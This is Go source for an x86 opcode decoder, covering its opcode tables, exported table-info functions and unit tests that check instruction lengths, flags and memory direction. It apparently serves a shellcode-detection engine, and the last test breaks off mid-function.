	t[0xBE] = entry{op: OpMOVSX, enc: encModRM, mem: memRead}
	t[0xBF] = entry{op: OpMOVSX, enc: encModRM, mem: memRead}

	t[0xC0] = entry{op: OpXADD, enc: encModRM, mem: memRW}
	t[0xC1] = entry{op: OpXADD, enc: encModRM, mem: memRW}
	t[0xC2] = entry{op: OpSSE, enc: encModRMIb, mem: memRead}
	t[0xC3] = entry{op: OpMOV, enc: encModRM, mem: memWrite} // movnti
	t[0xC4] = entry{op: OpSSE, enc: encModRMIb, mem: memRead}
	t[0xC5] = entry{op: OpSSE, enc: encModRMIb, mem: memRead}
	t[0xC6] = entry{op: OpSSE, enc: encModRMIb, mem: memRead}
	t[0xC7] = entry{op: OpCMPXCHG8B, enc: encModRM, mem: memRW}
	for b := 0xC8; b <= 0xCF; b++ {
		t[b] = entry{op: OpBSWAP, enc: encNone}
	}

	// 0x38/0x3A escape to the three-byte maps (SSSE3/SSE4 space).
	t[0x38] = entry{enc: encEscape38}
	t[0x3A] = entry{enc: encEscape3A}

	// 0xD0-0xFE: MMX/SSE arithmetic space (ModRM forms). A few slots are
	// genuinely undefined; keep the common shape and carve out 0xFF.
	for b := 0xD0; b <= 0xFE; b++ {
		t[b] = entry{op: OpMMX, enc: encModRM, mem: memRead}
	}
	t[0xFF] = entry{op: OpInvalid, enc: encNone, flags: FlagUndefined}

	return t
}

// threeByte38 is the 0F 38 map: uniformly ModRM-form SIMD operations
// where defined. Only the architecturally defined ranges are marked
// valid; the rest raise #UD.
var threeByte38 = buildThreeByte38()

func buildThreeByte38() [256]entry {
	var t [256]entry
	for i := range t {
		t[i] = entry{op: OpInvalid, enc: encModRM, flags: FlagUndefined}
	}
	// SSSE3: 00-0B, 1C-1E; SSE4.1: 10-17, 20-25, 28-2B, 30-3D, 40-41;
	// SSE4.2/CRC: F0-F1.
	mark := func(lo, hi int) {
		for b := lo; b <= hi; b++ {
			t[b] = entry{op: OpSSE, enc: encModRM, mem: memRead}
		}
	}
	mark(0x00, 0x0B)
	mark(0x10, 0x17)
	mark(0x1C, 0x1E)
	mark(0x20, 0x25)
	mark(0x28, 0x2B)
	mark(0x30, 0x3D)
	mark(0x40, 0x41)
	mark(0xF0, 0xF1)
	return t
}

// threeByte3A is the 0F 3A map: ModRM + imm8 forms where defined.
var threeByte3A = buildThreeByte3A()

func buildThreeByte3A() [256]entry {
	var t [256]entry
	for i := range t {
		t[i] = entry{op: OpInvalid, enc: encModRMIb, flags: FlagUndefined}
	}
	mark := func(lo, hi int) {
		for b := lo; b <= hi; b++ {
			t[b] = entry{op: OpSSE, enc: encModRMIb, mem: memRead}
		}
	}
	mark(0x08, 0x0F) // round/blend/palignr
	mark(0x14, 0x17) // pextr/extractps
	mark(0x20, 0x22) // pinsr/insertps
	mark(0x40, 0x42) // dpps/dppd/mpsadbw
	mark(0x60, 0x63) // pcmpestr/pcmpistr
	return t
}

package x86

// This file is the read-only export of the opcode tables: enough shape
// information for a consumer to compute instruction lengths and semantic
// classifications without re-deriving the maps. The MEL engine compiles
// its rule-specialized record decoder from this view; the tables
// themselves (table.go) stay unexported and are never mutated after
// package init.

// EncShape describes how the bytes after an opcode are laid out — the
// exported mirror of the internal encoding enum.
type EncShape uint8

// Encoding shapes.
const (
	// ShapeNone has no bytes after the opcode.
	ShapeNone EncShape = iota
	// ShapeModRM is ModRM (+SIB/displacement), no immediate.
	ShapeModRM
	// ShapeModRMIb is ModRM + imm8.
	ShapeModRMIb
	// ShapeModRMIz is ModRM + imm16/32 (operand size).
	ShapeModRMIz
	// ShapeIb is imm8.
	ShapeIb
	// ShapeIz is imm16/32 (operand size).
	ShapeIz
	// ShapeIw is imm16.
	ShapeIw
	// ShapeIwIb is imm16 + imm8 (ENTER).
	ShapeIwIb
	// ShapeRel8 is a rel8 branch displacement.
	ShapeRel8
	// ShapeRelZ is a rel16/32 branch displacement (operand size).
	ShapeRelZ
	// ShapeFarPtr is ptr16:16/32 (operand size + 2 bytes).
	ShapeFarPtr
	// ShapeMoffs is a moffs absolute address (address-size sized).
	ShapeMoffs
	// ShapePrefix marks a prefix byte: decoding restarts after it.
	ShapePrefix
	// ShapeEscape marks 0x0F, escaping to the two-byte map.
	ShapeEscape
	// ShapeEscape3 marks 0F 38 / 0F 3A, escaping to a three-byte map.
	ShapeEscape3
	// ShapeGroup3 is F6/F7: ModRM, immediate only for /0 and /1.
	ShapeGroup3
)

// MemDir is the exported mirror of the table's memory-access direction.
type MemDir uint8

// Memory-access directions.
const (
	// MemDirNone: no memory semantics even when ModRM encodes a memory form.
	MemDirNone MemDir = iota
	// MemDirRead: reads memory when the operand is a memory form.
	MemDirRead
	// MemDirWrite: writes memory.
	MemDirWrite
	// MemDirRW: reads and writes (read-modify-write).
	MemDirRW
)

// Opcode group identifiers for TableInfo.Group / GroupInfo. The numbers
// follow the architectural group names.
const (
	GroupNone uint8 = 0
	Group1    uint8 = 1 // 80-83: ALU Eb/Ev, imm
	Group2    uint8 = 2 // C0,C1,D0-D3: shifts/rotates
	Group3    uint8 = 3 // F6,F7: TEST/NOT/NEG/MUL/...
	Group4    uint8 = 4 // FE: INC/DEC Eb
	Group5    uint8 = 5 // FF: INC/DEC/CALL/JMP/PUSH Ev
	Group8    uint8 = 6 // 0F BA: BT/BTS/BTR/BTC Ev, imm8
)

// TableInfo is one opcode-table row in exported form. For group opcodes
// (Group != GroupNone) the Op, Flags and Mem of the selected operation
// come from GroupInfo(Group, ModRM.reg) and are ORed with / substituted
// for the base row exactly as the decoder does: flags accumulate, the
// memory direction is replaced.
type TableInfo struct {
	Op    Op
	Shape EncShape
	Flags Flags
	Mem   MemDir
	Group uint8
}

// shapeOf maps the internal encoding to its exported shape.
func shapeOf(e encoding) EncShape {
	switch e {
	case encNone:
		return ShapeNone
	case encModRM:
		return ShapeModRM
	case encModRMIb:
		return ShapeModRMIb
	case encModRMIz:
		return ShapeModRMIz
	case encIb:
		return ShapeIb
	case encIz:
		return ShapeIz
	case encIw:
		return ShapeIw
	case encIwIb:
		return ShapeIwIb
	case encRel8:
		return ShapeRel8
	case encRelZ:
		return ShapeRelZ
	case encFarPtr:
		return ShapeFarPtr
	case encMoffs:
		return ShapeMoffs
	case encPrefix:
		return ShapePrefix
	case encEscape:
		return ShapeEscape
	case encEscape38, encEscape3A:
		return ShapeEscape3
	case encGrp3:
		return ShapeGroup3
	}
	return ShapeNone
}

// memDirOf maps the internal direction to its exported mirror.
func memDirOf(m memDir) MemDir {
	switch m {
	case memRead:
		return MemDirRead
	case memWrite:
		return MemDirWrite
	case memRW:
		return MemDirRW
	}
	return MemDirNone
}

// groupOfOneByte returns the group id a one-byte opcode resolves through,
// mirroring the decoder's group dispatch.
func groupOfOneByte(b byte) uint8 {
	switch {
	case b >= 0x80 && b <= 0x83:
		return Group1
	case b == 0xC0 || b == 0xC1 || (b >= 0xD0 && b <= 0xD3):
		return Group2
	case b == 0xF6 || b == 0xF7:
		return Group3
	case b == 0xFE:
		return Group4
	case b == 0xFF:
		return Group5
	}
	return GroupNone
}

// OneByteInfo returns the decode-shape row for one-byte opcode b.
func OneByteInfo(b byte) TableInfo {
	e := oneByte[b]
	return TableInfo{
		Op:    e.op,
		Shape: shapeOf(e.enc),
		Flags: e.flags,
		Mem:   memDirOf(e.mem),
		Group: groupOfOneByte(b),
	}
}

// TwoByteInfo returns the decode-shape row for 0x0F-escaped opcode b.
func TwoByteInfo(b byte) TableInfo {
	e := twoByte[b]
	g := GroupNone
	if b == 0xBA {
		g = Group8
	}
	return TableInfo{
		Op:    e.op,
		Shape: shapeOf(e.enc),
		Flags: e.flags,
		Mem:   memDirOf(e.mem),
		Group: g,
	}
}

// GroupInfo returns the operation ModRM.reg selects within a group. The
// returned flags are ORed with the base row's flags; the memory direction
// replaces the base row's.
func GroupInfo(group uint8, reg byte) (Op, Flags, MemDir) {
	var g *[8]groupOp
	switch group {
	case Group1:
		g = &grp1
	case Group2:
		g = &grp2
	case Group3:
		g = &grp3
	case Group4:
		g = &grp4
	case Group5:
		g = &grp5
	case Group8:
		g = &grp8
	default:
		return OpInvalid, FlagUndefined, MemDirNone
	}
	sel := g[reg&7]
	return sel.op, sel.flags, memDirOf(sel.mem)
}

package x86

import (
	"testing"
)

// TestTableInvariants checks structural properties of the opcode maps
// rather than individual entries.
func TestTableInvariants(t *testing.T) {
	prefixes := map[byte]bool{
		0x26: true, 0x2E: true, 0x36: true, 0x3E: true,
		0x64: true, 0x65: true, 0x66: true, 0x67: true,
		0xF0: true, 0xF2: true, 0xF3: true,
	}
	for b := 0; b < 256; b++ {
		e := oneByte[b]
		if prefixes[byte(b)] != (e.enc == encPrefix) {
			t.Errorf("opcode %#02x: prefix classification mismatch", b)
		}
		if byte(b) == 0x0F != (e.enc == encEscape) {
			t.Errorf("opcode %#02x: escape classification mismatch", b)
		}
	}
}

// TestIOFlagCoverage: exactly the IN/OUT/INS/OUTS opcodes carry FlagIO.
func TestIOFlagCoverage(t *testing.T) {
	ioOpcodes := map[byte]bool{
		0x6C: true, 0x6D: true, 0x6E: true, 0x6F: true,
		0xE4: true, 0xE5: true, 0xE6: true, 0xE7: true,
		0xEC: true, 0xED: true, 0xEE: true, 0xEF: true,
	}
	for b := 0; b < 256; b++ {
		has := oneByte[b].flags.Has(FlagIO)
		if has != ioOpcodes[byte(b)] {
			t.Errorf("opcode %#02x: IO flag = %v, want %v", b, has, ioOpcodes[byte(b)])
		}
	}
}

// TestCondBranchCoverage: 0x70-0x7F and E0-E3 are the one-byte
// conditional branches; 0F 80-8F the two-byte ones.
func TestCondBranchCoverage(t *testing.T) {
	for b := 0; b < 256; b++ {
		want := b >= 0x70 && b <= 0x7F || b >= 0xE0 && b <= 0xE3
		if got := oneByte[b].flags.Has(FlagCondBranch); got != want {
			t.Errorf("opcode %#02x: cond-branch = %v, want %v", b, got, want)
		}
	}
	for b := 0; b < 256; b++ {
		want := b >= 0x80 && b <= 0x8F
		if got := twoByte[b].flags.Has(FlagCondBranch); got != want {
			t.Errorf("0F %02x: cond-branch = %v, want %v", b, got, want)
		}
	}
}

// TestRelativeBranchesHaveTargets: every instruction the tables mark as
// rel8/relZ must produce HasRelTarget when decoded.
func TestRelativeBranchesHaveTargets(t *testing.T) {
	tail := []byte{0x01, 0x02, 0x03, 0x04, 0x05}
	for b := 0; b < 256; b++ {
		e := oneByte[b]
		if e.enc != encRel8 && e.enc != encRelZ {
			continue
		}
		inst, err := Decode(append([]byte{byte(b)}, tail...), 0)
		if err != nil {
			t.Fatalf("opcode %#02x: %v", b, err)
		}
		if !inst.HasRelTarget {
			t.Errorf("opcode %#02x: no rel target", b)
		}
	}
}

// TestStackFlagCoverage: push/pop/call/ret/enter/leave/pusha families
// carry FlagStack.
func TestStackFlagCoverage(t *testing.T) {
	mustStack := [][]byte{
		{0x50}, {0x5F}, {0x68, 1, 2, 3, 4}, {0x6A, 1},
		{0x60}, {0x61}, {0x9C}, {0x9D},
		{0xC2, 0, 0}, {0xC3}, {0xC8, 0, 0, 0}, {0xC9},
		{0xE8, 0, 0, 0, 0}, {0x06}, {0x07},
		{0xFF, 0x30}, // push [eax]
		{0x8F, 0x00}, // pop [eax]
	}
	for _, code := range mustStack {
		inst, err := Decode(code, 0)
		if err != nil {
			t.Fatalf("% x: %v", code, err)
		}
		if !inst.Flags.Has(FlagStack) {
			t.Errorf("% x (%s): missing stack flag", code, inst.Mnemonic())
		}
	}
}

// TestReferenceEncodings checks a battery of hand-assembled instructions
// (lengths cross-checked against a reference assembler).
func TestReferenceEncodings(t *testing.T) {
	cases := []struct {
		asm  string
		code []byte
		op   Op
	}{
		{"add [ebx+esi*2+0x10], ecx", []byte{0x01, 0x4C, 0x73, 0x10}, OpADD},
		{"or eax, 0x12345678", []byte{0x0D, 0x78, 0x56, 0x34, 0x12}, OpOR},
		{"adc bl, 0x7F", []byte{0x80, 0xD3, 0x7F}, OpADC},
		{"sbb edx, [edi]", []byte{0x1B, 0x17}, OpSBB},
		{"and esp, 0xFFFFFFF0", []byte{0x83, 0xE4, 0xF0}, OpAND},
		{"sub esp, 0x100", []byte{0x81, 0xEC, 0x00, 0x01, 0x00, 0x00}, OpSUB},
		{"xor byte [ecx], 0x41", []byte{0x80, 0x31, 0x41}, OpXOR},
		{"cmp dword [ebp-4], 7", []byte{0x83, 0x7D, 0xFC, 0x07}, OpCMP},
		{"test al, 0x80", []byte{0xA8, 0x80}, OpTEST},
		{"mov edi, [esp+0x20]", []byte{0x8B, 0x7C, 0x24, 0x20}, OpMOV},
		{"mov word [eax], 0x1234", []byte{0x66, 0xC7, 0x00, 0x34, 0x12}, OpMOV},
		{"lea esi, [ebx+ebx*4]", []byte{0x8D, 0x34, 0x9B}, OpLEA},
		{"imul eax, edx, 100", []byte{0x6B, 0xC2, 0x64}, OpIMUL},
		{"imul ecx, [eax], 0x1000", []byte{0x69, 0x08, 0x00, 0x10, 0x00, 0x00}, OpIMUL},
		{"shl eax, 4", []byte{0xC1, 0xE0, 0x04}, OpSHL},
		{"sar dword [ecx], 1", []byte{0xD1, 0x39}, OpSAR},
		{"rol bl, cl", []byte{0xD2, 0xC3}, OpROL},
		{"inc dword [eax]", []byte{0xFF, 0x00}, OpINC},
		{"dec byte [esi+1]", []byte{0xFE, 0x4E, 0x01}, OpDEC},
		{"neg dword [esp]", []byte{0xF7, 0x5C, 0x24, 0x00}, OpNEG},
		{"div dword [ebp+8]", []byte{0xF7, 0x75, 0x08}, OpDIV},
		{"movzx eax, byte [ebx]", []byte{0x0F, 0xB6, 0x03}, OpMOVZX},
		{"movsx edx, word [eax+2]", []byte{0x0F, 0xBF, 0x50, 0x02}, OpMOVSX},
		{"bt eax, edx", []byte{0x0F, 0xA3, 0xD0}, OpBT},
		{"bts dword [eax], 3", []byte{0x0F, 0xBA, 0x28, 0x03}, OpBTS},
		{"shld eax, ebx, 8", []byte{0x0F, 0xA4, 0xD8, 0x08}, OpSHLD},
		{"cmpxchg [ecx], edx", []byte{0x0F, 0xB1, 0x11}, OpCMPXCHG},
		{"xadd [eax], ebx", []byte{0x0F, 0xC1, 0x18}, OpXADD},
		{"cmpxchg8b [esi]", []byte{0x0F, 0xC7, 0x0E}, OpCMPXCHG8B},
		{"bsf eax, ecx", []byte{0x0F, 0xBC, 0xC1}, OpBSF},
		{"bsr edx, [eax]", []byte{0x0F, 0xBD, 0x10}, OpBSR},
		{"lar eax, cx", []byte{0x0F, 0x02, 0xC1}, OpLAR},
		{"lsl ebx, dx", []byte{0x0F, 0x03, 0xDA}, OpLSL},
		{"lss esp, [eax]", []byte{0x0F, 0xB2, 0x20}, OpLSS},
		{"les edi, [ebx]", []byte{0xC4, 0x3B}, OpLES},
		{"lds esi, [ecx]", []byte{0xC5, 0x31}, OpLDS},
		{"loop -2", []byte{0xE2, 0xFE}, OpLOOP},
		{"in al, 0x60", []byte{0xE4, 0x60}, OpIN},
		{"out dx, eax", []byte{0xEF}, OpOUT},
		{"pushad", []byte{0x60}, OpPUSHA},
		{"xchg eax, ebp", []byte{0x95}, OpXCHG},
		{"sahf", []byte{0x9E}, OpSAHF},
		{"cmc", []byte{0xF5}, OpCMC},
		{"lock inc dword [eax]", []byte{0xF0, 0xFF, 0x00}, OpINC},
		{"rep movsd", []byte{0xF3, 0xA5}, OpMOVS},
	}
	for _, c := range cases {
		inst, err := Decode(c.code, 0)
		if err != nil {
			t.Errorf("%s: %v", c.asm, err)
			continue
		}
		if inst.Op != c.op {
			t.Errorf("%s: op = %v, want %v", c.asm, inst.Op, c.op)
		}
		if inst.Len != len(c.code) {
			t.Errorf("%s: len = %d, want %d", c.asm, inst.Len, len(c.code))
		}
	}
}

// TestLockAndRepPrefixesRecorded verifies prefix bookkeeping.
func TestLockAndRepPrefixesRecorded(t *testing.T) {
	inst, err := Decode([]byte{0xF0, 0xFF, 0x00}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !inst.Prefixes.Lock {
		t.Error("lock prefix not recorded")
	}
	inst, err = Decode([]byte{0xF3, 0xA4}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !inst.Prefixes.Rep || inst.Prefixes.RepNE {
		t.Error("rep prefix not recorded")
	}
	inst, err = Decode([]byte{0xF2, 0xAE}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !inst.Prefixes.RepNE {
		t.Error("repne prefix not recorded")
	}
}

// TestRelZWith16BitOperand: the 0x66 prefix shrinks relZ displacements.
func TestRelZWith16BitOperand(t *testing.T) {
	inst, err := Decode([]byte{0x66, 0xE9, 0x10, 0x00}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if inst.Len != 4 {
		t.Errorf("jmp rel16 len = %d, want 4", inst.Len)
	}
	if inst.RelTarget != 4+0x10 {
		t.Errorf("target = %d", inst.RelTarget)
	}
	// Negative 16-bit displacement sign-extends.
	inst, err = Decode([]byte{0x66, 0xE9, 0xFC, 0xFF}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if inst.RelTarget != 0 {
		t.Errorf("negative rel16 target = %d, want 0", inst.RelTarget)
	}
}

// TestGroup2Forms covers all four group-2 dispatch opcodes.
func TestGroup2Forms(t *testing.T) {
	cases := []struct {
		code []byte
		op   Op
		l    int
	}{
		{[]byte{0xC0, 0xE0, 0x04}, OpSHL, 3}, // shl al,4
		{[]byte{0xC1, 0xF8, 0x02}, OpSAR, 3}, // sar eax,2
		{[]byte{0xD0, 0xC8}, OpROR, 2},       // ror al,1
		{[]byte{0xD3, 0xE2}, OpSHL, 2},       // shl edx,cl
		{[]byte{0xD1, 0xD1}, OpRCL, 2},       // rcl ecx,1
		{[]byte{0xC0, 0xD8, 0x01}, OpRCR, 3}, // rcr al,1
	}
	for _, c := range cases {
		inst, err := Decode(c.code, 0)
		if err != nil {
			t.Fatalf("% x: %v", c.code, err)
		}
		if inst.Op != c.op || inst.Len != c.l {
			t.Errorf("% x: op=%v len=%d, want %v/%d", c.code, inst.Op, inst.Len, c.op, c.l)
		}
	}
}

// TestMemDirectionTable: the read/write classification drives both the
// emulator and the wrong-segment rule; spot-check the table's direction
// decisions.
func TestMemDirectionTable(t *testing.T) {
	cases := []struct {
		code  []byte
		read  bool
		write bool
	}{
		{[]byte{0x89, 0x01}, false, true},       // mov [ecx], eax
		{[]byte{0x8B, 0x01}, true, false},       // mov eax, [ecx]
		{[]byte{0x01, 0x01}, true, true},        // add [ecx], eax (RMW)
		{[]byte{0x39, 0x01}, true, false},       // cmp [ecx], eax
		{[]byte{0x85, 0x01}, true, false},       // test [ecx], eax
		{[]byte{0xC6, 0x01, 0x41}, false, true}, // mov byte [ecx], 'A'
		{[]byte{0x0F, 0x94, 0x01}, false, true}, // sete [ecx]
		{[]byte{0xFF, 0x31}, true, false},       // push [ecx]
		{[]byte{0x8F, 0x01}, false, true},       // pop [ecx]
	}
	for _, c := range cases {
		inst, err := Decode(c.code, 0)
		if err != nil {
			t.Fatalf("% x: %v", c.code, err)
		}
		if inst.MemRead != c.read || inst.MemWrite != c.write {
			t.Errorf("% x (%s): read=%v write=%v, want %v/%v",
				c.code, inst.Mnemonic(), inst.MemRead, inst.MemWrite, c.read, c.write)
		}
	}
}

// TestOpNamesComplete: every Op constant has a mnemonic.
func TestOpNamesComplete(t *testing.T) {
	for op := OpInvalid; op < opMax; op++ {
		if op.String() == "(unknown)" {
			t.Errorf("op %d has no name", op)
		}
	}
}

func TestThreeByteOpcodes(t *testing.T) {
	// pshufb xmm-ish form: 0F 38 00 /r (ModRM).
	inst, err := Decode([]byte{0x0F, 0x38, 0x00, 0x01}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !inst.ThreeByte || inst.Op != OpSSE || inst.Len != 4 || !inst.MemAccess {
		t.Errorf("0F 38 00: %+v", inst)
	}
	// palignr: 0F 3A 0F /r imm8.
	inst, err = Decode([]byte{0x0F, 0x3A, 0x0F, 0xC1, 0x04}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !inst.ThreeByte || inst.Op != OpSSE || inst.Len != 5 || inst.Imm != 4 {
		t.Errorf("0F 3A 0F: %+v", inst)
	}
	// Undefined three-byte slots raise #UD but still measure length.
	inst, err = Decode([]byte{0x0F, 0x38, 0xC8, 0x01}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !inst.Flags.Has(FlagUndefined) {
		t.Error("0F 38 C8 should be undefined")
	}
	// Truncation inside the escape chain.
	if _, err := Decode([]byte{0x0F, 0x38}, 0); !isTruncated(err) {
		t.Errorf("truncated three-byte: %v", err)
	}
	if _, err := Decode([]byte{0x0F, 0x3A, 0x0F, 0xC1}, 0); !isTruncated(err) {
		t.Errorf("truncated imm: %v", err)
	}
}

func isTruncated(err error) bool { return err == ErrTruncated }

func TestEveryThreeByteOpcodeDecodes(t *testing.T) {
	tail := []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08}
	for _, esc := range []byte{0x38, 0x3A} {
		for b := 0; b < 256; b++ {
			code := append([]byte{0x0F, esc, byte(b)}, tail...)
			inst, err := Decode(code, 0)
			if err != nil {
				t.Fatalf("0F %02x %02x: %v", esc, b, err)
			}
			if inst.Len < 3 || inst.Len > MaxInstLen {
				t.Fatalf("0F %02x %02x: len=%d", esc, b, inst.Len)
			}
		}
	}
}

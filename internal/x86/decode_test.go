package x86

import (
	"errors"
	"testing"
	"testing/quick"
)

// dec is a test helper that decodes at offset 0 and fails the test on error.
func dec(t *testing.T, code ...byte) Inst {
	t.Helper()
	inst, err := Decode(code, 0)
	if err != nil {
		t.Fatalf("Decode(% x): %v", code, err)
	}
	return inst
}

func TestXorRegReg(t *testing.T) {
	i := dec(t, 0x31, 0xC0) // xor eax, eax
	if i.Op != OpXOR || i.Len != 2 {
		t.Errorf("got op=%v len=%d", i.Op, i.Len)
	}
	if i.MemAccess {
		t.Error("register form must not access memory")
	}
	if i.Mod != 3 || i.RegField != 0 || i.RM != 0 {
		t.Errorf("modrm fields: mod=%d reg=%d rm=%d", i.Mod, i.RegField, i.RM)
	}
}

func TestSubMemReg(t *testing.T) {
	// sub [ecx+0x41], eax — the text decrypter's workhorse.
	i := dec(t, 0x29, 0x41, 0x41)
	if i.Op != OpSUB || i.Len != 3 {
		t.Fatalf("got op=%v len=%d", i.Op, i.Len)
	}
	if !i.MemAccess || !i.MemWrite || !i.MemRead {
		t.Errorf("mem flags: access=%v write=%v read=%v", i.MemAccess, i.MemWrite, i.MemRead)
	}
	if i.MemBase != ECX || i.MemIndex != RegNone || i.Disp != 0x41 || i.DispSize != 1 {
		t.Errorf("addr: base=%v index=%v disp=%#x size=%d", i.MemBase, i.MemIndex, i.Disp, i.DispSize)
	}
}

func TestPushImm32(t *testing.T) {
	i := dec(t, 0x68, 0x41, 0x42, 0x43, 0x44)
	if i.Op != OpPUSH || i.Len != 5 {
		t.Fatalf("got op=%v len=%d", i.Op, i.Len)
	}
	if i.Imm != 0x44434241 || i.ImmSize != 4 {
		t.Errorf("imm=%#x size=%d", i.Imm, i.ImmSize)
	}
	if !i.Flags.Has(FlagStack) {
		t.Error("push must be a stack op")
	}
}

func TestPushImm16WithOpSize(t *testing.T) {
	i := dec(t, 0x66, 0x68, 0x41, 0x42)
	if i.Len != 4 || i.ImmSize != 2 || i.Imm != 0x4241 {
		t.Errorf("len=%d imm=%#x size=%d", i.Len, i.Imm, i.ImmSize)
	}
	if !i.Prefixes.OpSize || i.Prefixes.Count != 1 {
		t.Errorf("prefixes: %+v", i.Prefixes)
	}
}

func TestCallRel32(t *testing.T) {
	i := dec(t, 0xE8, 0x01, 0x00, 0x00, 0x00)
	if i.Op != OpCALL || i.Len != 5 {
		t.Fatalf("op=%v len=%d", i.Op, i.Len)
	}
	if !i.HasRelTarget || i.RelTarget != 6 {
		t.Errorf("target=%d has=%v", i.RelTarget, i.HasRelTarget)
	}
	if !i.Flags.Has(FlagCall) {
		t.Error("missing call flag")
	}
}

func TestJmpBackward(t *testing.T) {
	i := dec(t, 0xEB, 0xFE) // jmp $-0 (infinite loop to itself)
	if i.RelTarget != 0 {
		t.Errorf("target=%d, want 0", i.RelTarget)
	}
	if !i.Flags.Has(FlagUncondJump) {
		t.Error("missing jump flag")
	}
}

func TestJccShortAndLong(t *testing.T) {
	i := dec(t, 0x74, 0x10) // je +0x10
	if i.Op != OpJcc || i.Cond != 4 || i.Mnemonic() != "je" {
		t.Errorf("op=%v cond=%d mnemonic=%s", i.Op, i.Cond, i.Mnemonic())
	}
	if i.RelTarget != 0x12 {
		t.Errorf("target=%d, want 0x12", i.RelTarget)
	}
	if !i.Flags.Has(FlagCondBranch) {
		t.Error("missing cond-branch flag")
	}

	long := dec(t, 0x0F, 0x85, 0x00, 0x01, 0x00, 0x00) // jne rel32
	if long.Op != OpJcc || long.Mnemonic() != "jne" || long.Len != 6 {
		t.Errorf("long jcc: op=%v mnemonic=%s len=%d", long.Op, long.Mnemonic(), long.Len)
	}
	if long.RelTarget != 6+0x100 {
		t.Errorf("long target=%d", long.RelTarget)
	}
}

func TestAllTextJccAreCondBranches(t *testing.T) {
	// The paper: "jump opcodes (jo through jng)" — 0x70..0x7E are text.
	for b := byte(0x70); b <= 0x7E; b++ {
		i := dec(t, b, 0x20)
		if i.Op != OpJcc || !i.Flags.Has(FlagCondBranch) {
			t.Errorf("opcode %#x: op=%v flags=%v", b, i.Op, i.Flags)
		}
	}
}

func TestLEAHasNoMemAccess(t *testing.T) {
	i := dec(t, 0x8D, 0x04, 0x8D, 0x00, 0x00, 0x00, 0x00) // lea eax,[ecx*4]
	if i.Op != OpLEA || i.Len != 7 {
		t.Fatalf("op=%v len=%d", i.Op, i.Len)
	}
	if i.MemAccess {
		t.Error("lea must not access memory")
	}
	if !i.HasSIB || i.MemIndex != ECX || i.MemScale != 4 {
		t.Errorf("sib: has=%v index=%v scale=%d", i.HasSIB, i.MemIndex, i.MemScale)
	}
}

func TestMoffsLoad(t *testing.T) {
	i := dec(t, 0xA1, 0x78, 0x56, 0x34, 0x12) // mov eax, [0x12345678]
	if i.Op != OpMOV || i.Len != 5 {
		t.Fatalf("op=%v len=%d", i.Op, i.Len)
	}
	if !i.MemAccess || !i.MemRead || i.MemWrite {
		t.Errorf("mem: %v/%v/%v", i.MemAccess, i.MemRead, i.MemWrite)
	}
	if !i.MemDispOnly || i.Disp != 0x12345678 {
		t.Errorf("dispOnly=%v disp=%#x", i.MemDispOnly, i.Disp)
	}
}

func TestMoffsStoreWithAddrSize(t *testing.T) {
	i := dec(t, 0x67, 0xA3, 0x34, 0x12) // mov [0x1234], eax (16-bit moffs)
	if i.Len != 4 || !i.MemWrite || !i.MemDispOnly || i.Disp != 0x1234 {
		t.Errorf("len=%d write=%v dispOnly=%v disp=%#x", i.Len, i.MemWrite, i.MemDispOnly, i.Disp)
	}
}

func TestIOInstructions(t *testing.T) {
	// The characters 'l','m','n','o' — the paper's privileged I/O chars.
	for _, c := range []struct {
		b    byte
		op   Op
		name string
	}{
		{'l', OpINS, "insb"},
		{'m', OpINS, "insd"},
		{'n', OpOUTS, "outsb"},
		{'o', OpOUTS, "outsd"},
	} {
		i := dec(t, c.b)
		if i.Op != c.op || !i.Flags.Has(FlagIO) || i.Len != 1 {
			t.Errorf("%s (%#x): op=%v flags=%v len=%d", c.name, c.b, i.Op, i.Flags, i.Len)
		}
	}
	for _, b := range []byte{0xE4, 0xE6, 0xEC, 0xEE} {
		i := dec(t, b, 0x10)
		if !i.Flags.Has(FlagIO) {
			t.Errorf("opcode %#x missing IO flag", b)
		}
	}
}

func TestPrivilegedInstructions(t *testing.T) {
	for _, b := range []byte{0xF4, 0xFA, 0xFB} { // hlt, cli, sti
		i := dec(t, b)
		if !i.Flags.Has(FlagPrivileged) {
			t.Errorf("opcode %#x missing privileged flag", b)
		}
	}
}

func TestInt80(t *testing.T) {
	i := dec(t, 0xCD, 0x80)
	if i.Op != OpINT || !i.Flags.Has(FlagInt) || i.Imm != -128 {
		t.Errorf("op=%v flags=%v imm=%d", i.Op, i.Flags, i.Imm)
	}
	if byte(i.Imm) != 0x80 {
		t.Errorf("imm byte = %#x, want 0x80", byte(i.Imm))
	}
}

func TestGroup3(t *testing.T) {
	// neg eax: F7 /3 — no immediate.
	i := dec(t, 0xF7, 0xD8)
	if i.Op != OpNEG || i.Len != 2 || i.ImmSize != 0 {
		t.Errorf("neg: op=%v len=%d immsize=%d", i.Op, i.Len, i.ImmSize)
	}
	// test eax, 1: F7 /0 — imm32.
	i = dec(t, 0xF7, 0xC0, 0x01, 0x00, 0x00, 0x00)
	if i.Op != OpTEST || i.Len != 6 || i.Imm != 1 {
		t.Errorf("test: op=%v len=%d imm=%d", i.Op, i.Len, i.Imm)
	}
	// test byte [eax], 0x7F: F6 /0 — imm8.
	i = dec(t, 0xF6, 0x00, 0x7F)
	if i.Op != OpTEST || i.Len != 3 {
		t.Errorf("test byte: op=%v len=%d", i.Op, i.Len)
	}
}

func TestGroup5(t *testing.T) {
	i := dec(t, 0xFF, 0xE4) // jmp esp — the register-spring instruction
	if i.Op != OpJMP || !i.Flags.Has(FlagUncondJump|FlagIndirect) {
		t.Errorf("jmp esp: op=%v flags=%v", i.Op, i.Flags)
	}
	i = dec(t, 0xFF, 0xD0) // call eax
	if i.Op != OpCALL || !i.Flags.Has(FlagCall|FlagIndirect) {
		t.Errorf("call eax: op=%v flags=%v", i.Op, i.Flags)
	}
	i = dec(t, 0xFF, 0x35, 0x44, 0x33, 0x22, 0x11) // push [0x11223344]
	if i.Op != OpPUSH || !i.MemDispOnly || i.Len != 6 {
		t.Errorf("push mem: op=%v dispOnly=%v len=%d", i.Op, i.MemDispOnly, i.Len)
	}
	i = dec(t, 0xFF, 0xF8) // grp5 /7 — undefined
	if !i.Flags.Has(FlagUndefined) {
